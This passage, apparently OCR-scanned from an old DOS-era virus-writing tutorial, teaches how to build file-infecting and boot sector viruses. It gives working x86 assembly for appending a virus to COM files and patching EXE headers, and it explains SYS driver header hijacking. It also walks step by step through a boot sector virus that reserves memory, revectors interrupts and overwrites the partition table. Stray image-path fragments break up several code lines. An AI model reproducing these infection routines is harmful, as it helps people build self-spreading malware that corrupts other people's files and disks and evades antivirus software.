We can take advantage of this fixed load area. The logic behind the infection of a COM file involves changing the first 3 bytes in the com file to a JMP instruction (0e9h, xx, yy is JMP yyxx), after saving them somewhere else, of course.To calculate the number to go in the XX and YY areas in the above is very simple. Seek to the end of the COM file (after making sure that the file will not overrun 64k after infection). Subtract 3 (3 DECs) from the value returned in AX by the DOS function. That's it.

  com_infection:                                ; called from main routine
                  call file_zero
                  mov cx, 3
                  mov dx, offset first3_save
                  mov ah, 3fh
                  call function_call            ; read original first 3 bytes
                  mov di, jmp_temp              ; work out jump
                  mov al, 0e9h                  ; JMP mnemonic
                  call file_end                 ; seek to EOF
                  or dx, dx
                  jnz dont_infect               ; if DX>0 then more than 64k
                  cmp ax, 4                     ; if len<4 then too small
                  jb dont_infect
                  push ax
                  add ax, v_len                 ; lengthof virus
                  jc dont_infect                ; CF set if overruns 64k
                  pop ax
                  dec ax                        ; subtract 3
                  dec ax
                  dec ax
                  stosw                         ; and now we have it
                  mov dx, start                 ; start of virus
                  mov cx, virus_length
                  mov ah, 40h                   ; Fn 40h, Write to handlecall function_call            ; Append virus to file
                  call file_zero                ; seek to 0
                  mov cx, 3
                  mov dx, offset jmp_temp
                  mov ah, 40h
                  call function_call            ; write first 3 bytes
  dont_infect:    ret                           ; return to main routine

(note: NF30 does not care if the COM file will overrun the 64k barrier, because there aren't that many 63k COM files floating around out there)

EXE infection

Now THIS is one of the hardest hurdles to overcome. Once you work out how to infect EXE files the rest comes a lot easier. Try it yourself before reading this section. I strongly urge you to do this.I worked out my own routine, because I couldn't understand what the fuck Dark Avenger was doing in Eddie... he must have been drunk or something when he wrote it. Turns out my routine is smaller and faster anyway.

The principle involves reading (and saving) the original values for the CS:IP and SS:SP of the EXE file and changing them for what is required. The hard bit comes when you go to calcate how many code pages are contained in the file after you've infected and so on. It's complicated enough that I can't create the code off the top of my head like I didthe COM infection routine above.

Before we embark, I must describe the layout of the EXE file header.

00 * EXE file header (Signature)
02 * # of bytes in the final code page (Part_Page)
04 * # of code pages [1cp=512bytes] (Page_Cnt)
06 # of items in relocation table
08 * # of paragraphs in header (Hdr_Size)
0a Minimum amount of memory needed to run
0c Maximum amount of memory
0e * Paragraph offset of Stack Segment on Startup (Relo_SS)
10 * Stack Pointer on Startup (Exe_SP)
12 Checksum of the EXE file
14 * Instruction Pointer on Startup (Exe_IP)
16 * Paragraph offset of Code Segment on Startup (Relo_CS)
18 Offset of relocation table
1a Overlay Number

'*' denotes items which are referenced or changed during infection. These are referenced using the labels in the brackets.

Relevance of '*' items:

If this is not 'MZ' or 'ZM' it is NOT an EXE file
If this is wrong, the EXE will not load properly
If this is wrong, the EXE will not load at all
The size of the header is not counted in Page_Cnt
We must not assume anything, we make our own stack
Pointer to where our stack is within Relo_SS
IP of start of virusSegment where virus is

There are a number of ways to infect EXE files. One method is to round up its length to a multiple of 16 (paragraph boundary) so that execution always starts at 0 or 100h (depending on what the author desires). I hate this approach, becuase it makes it very hard to employ stealth techniques.

BTW the function 4302h (LSEEK to end plus 0) returns the size of the file in AX and DX, the size being (65535*DX+AX). It is necessary to convert the number of 65535's into an amount of paragraphs for it to be useful. To do this: Multiply the number in DX by 0ffffh, so you get a value in AX with the higher bits (the overflow) in DX, then dividing by 16 (one paragraph). You are left with the number of paragraphs in AX.

  exe_infection:  call zero_file          ; seek to 0
                  mov ah, 3fh
                  mov cx, 1ch
                  mov dx, temp_load       ; temporary load space
                  mov si, dx

                  call function_call

                  cmp ax, 'ZM'            ; exe header signature
                                          ; (must have this)
                  je ef_ok
                  cmp ax,'MZ'
                  je ef_ok
                  jmp com_infectionef_ok:          mov di, offset orig_ss
                  add si, 0ch             ; save the relevent info at the
                  movsw                   ; beginning of the virus
                  movsw                   ; (SS, SP, IP, CS respectively)
                  inc si
                  inc si

  zend_file:      call file_end           ; EOF

                  push dx                 ; save file length on stack
                  push ax

  write_end:      mov ah, 40h
                  mov cx, v_len           ; write virus (v_len is length of
                                          ; virus)
                  mov dx, 100hcall function_call
                  call file_end
                  mov word ptr [size_save], ax
                  mov word ptr [size_save+2], dx

  fix_dx:         pop ax                  ; refresh values in AX and DX
                  pop dx
                  push dx
                  push ax
                  xor bx, bx
                  or dx, dx               ; is DX 0?
                  jz fix_ax

                  xchg ax, dx             ; calculate the number of paragraphs
                  mov dx, 0ffffh          ; denoted by value returned in DX
                  mul dx                  ; (as described verbally, above)
                  mov bx, 10h
                  div bx
                  inc ax
                  mov bx, ax

  fix_ax:         pop ax
                  pop dx
                  xor dx, dx
                  mov cx, 10h
                  div cx
                  mov cx, dx              ; cx = fill bytes
                  add ax, bx              ; ax = no. of paragraphs

  patch_header:   sub ax, word ptr [hdr_size]

                  mov word ptr [relo_cs], ax
                  add cx, e_len           ; e_len: offset of EXE entry pt.
                  mov word ptr [exe_ip], cx

                  add cx, top_stack - 100hmov word ptr [relo_ss], ax
                  mov word ptr [exe_sp], cx

  fix_pagecnt:    mov ax, word ptr [size_save]
                  and ax, 1ffh
                  mov word ptr [part_page], ax
                  mov ax, word ptr [size_save+1]
                  rcr ax, 1               ; don't ask me, ask Dark Avenger
                  popf                    ; (this is the only part I didn't
                                          ; write myself)
                  jz put_cnt
                  inc ax

  put_cnt:        mov word ptr [page_cnt], ax

  write_hdr:      call file_zero
                  mov cx, 1ch
                  mov dx, temp_load
                  mov ah, 40h
                  call function_call

  k_kewl:         mov byte ptr [infected], 1

That's it. Refer to the complete source code of NF30 at the end of this document for a more complete idea of what's happening.

OV? infection

Few people realize that this is exactly the same routine as the EXE infection. But some overlays aren't in EXE header format, I hear you say. So? It won't be infected then, because you checked it had one before you tried infecting. (That's included in the above code anyway).

SYS infectionLike any programmer, I am not inclined to giving away my deepest darkest secrets. You must work this one out for yourself (the code, at least) becuase I'm not going to include the code. I will admit that I couldn't figure out a way to reserve memory without inserting code into the partition table to do it for me, but apart from that everything works fine.(could someone get me a copy of Invol for me to look at?)

Note that the main purpose of infecting SYS files is so your virus can get into memory before any AV software. So it would be pointless to have a virus which is infectious off the partition AND SYS files. A sensible approach to this would to infect SYS files, but not to make it infectious off SYS files; merely to check to see if the virus is resident, and if not, patch the partition so that it will be on next boot-up.

Work out your own code. It's dead simple, but if you can't do it, remember: nothing comes easy!

Firstly, the layout of the SYS header:

OffsetSize Meaning
00 dword pointer to next device driver (initialized by DOS)
04 word device attribute
06 word offset of strategy routine
08 word * offset of interrupt routine
0a 8bytesdevice name (eg. 'LPT1 ')

'*' denotes a value referenced or changed during infection.

Infection of SYS files is similar to COM files as far as calculating the offset to jump to goes. Seek to EOF. Add to AX the relative offset of your SYS entry handler,then shove AX it into word ptr [8] (after saving the original [8] value).

The first time the interrupt routine is called will always be the Initialize call. You can safely assume nothing crucial is about to take place (but remember to save all the registers). Do what needs to be done (TSR check, partition infection etc.), restore the original interrupt routine pointer, and jump to it.

Boot Sector Viruses

I must tell you that BSVs are not my forte. They are generally simple in design, but there are always going to be new media formats in the future and what is now a safe place to keep the original boot sector may not be in a year's time.

One way to overcome this is by marking sectors as bad and putting the code/boot sector in there, but to do this the original BPB must be available, and if another virus is on the disk, it will fuck up. (and I never spent enough thought wondering how to maniuplate the FAT, so I never bothered. If you want to, figure it out for yourself. Don't forget about 12- and 16-bit FATs...)

The world's most common BSV, and perhaps most common of all viruses, is the widely-known Stoned family (known as Marijuana, Hawaii etc). The original Stoned virus' code was shot to shit. A bucket of crap. Then it was adapted for hard drives. It only catered for 360k-or-below disks, so when 1.2's and 1.44's came out there was a big shit about it because it would corrupt the FAT, and so a new version ofStoned was released.

What it does: Upon booting off an infected floppy, it will decrease available memory by 2k (2xDEC [0:413h]) and copy itself to [TOM-2k] and revector int 13h (BIOS disk services). At this time itwill check to see if the hard drive (if one exists) is infected, and if not, will write the original partition to 0:0:7 (physical sector 7), and write the infected partition to 0:0:1 (physical sector 1).

Once it has done that, it will read the floppy's original boot sector into 0:7c00h and jump to it. The boot/nonboot will proceed as normal.

Any non-write-protected disk inserted into the machine and accessed will be infected. It will read the original boot sector and if it's not already infected, will write it to the last sector within the root directory, and write itself to the boot sector.

Most BSVs follow this general pattern, since it's really the only way to infect without any noticeable disk seeking.

The general pattern for BSVs:1. Decrement memory by Xk
  2. Write myself to high memory
  3. Revector appropriate interrupts
  4. Hard drive present?

    No: go to 9

  5. Hard drive infected?

    Yes: go to 9

  6. Read Partition and store somewhere else
  7. Patch partition information into myself
  8. Write myself to partition table
  9. Load original boot sector/partition table10. Jump to it

Interrupt Handler:

  1. Is drive motor going?

    No: go to 6

  2. Read boot sector
  3. A copy of myself?

    Yes: go to 6

  4. Store boot sector somewhere else
  5. Write myself to boot sector
